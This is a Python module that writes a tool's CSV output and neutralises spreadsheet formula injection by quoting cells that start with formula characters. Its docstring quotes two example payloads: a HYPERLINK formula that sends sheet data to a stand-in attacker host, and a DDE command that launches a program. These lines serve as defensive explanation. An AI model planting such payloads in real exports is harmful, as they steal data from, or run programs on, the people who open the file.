"""The one CSV writer: every command's CSV (list, completeness, report, export) goes through it.

CSV is opened in spreadsheets, and a spreadsheet runs a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula: a record value ``=HYPERLINK("http://evil.example/?"&A1)`` would
send the sheet's data away when someone clicks, ``+cmd|' /C calc'!A0`` starts a program in old
Excel. Following OWASP's advice, a text cell starting with one of those, a TAB or a CR gets a
single quote in front, which spreadsheets show as text and do not keep. Numbers written by wksbm
itself (counts, years) are Python numbers, never text, so a negative count stays a number.
``raw=True`` (``--raw-csv``) writes the exact text for scripts that read the file themselves.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """``text`` made inert for a spreadsheet: a leading ``'`` when it could start a formula."""
    return "'" + text if text.startswith(FORMULA_START) else text


def cell(value: object, raw: bool = False) -> object:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return value
    text = str(value)
    return text if raw else neutralise(text)


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]], raw: bool = False) -> str:
    """A header row and the rows, ``\\n``-terminated, quoted only where CSV needs it."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    # The csv module quotes a field holding the line terminator ("\n") but not a lone CR, which
    # a reader then takes for the end of the row: such a row is written with every field quoted.
    quoted = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in (header, *rows):
        cells = [cell(v, raw) for v in row]
        target = quoted if any(isinstance(c, str) and "\r" in c for c in cells) else writer
        target.writerow(cells)
    return buffer.getvalue()
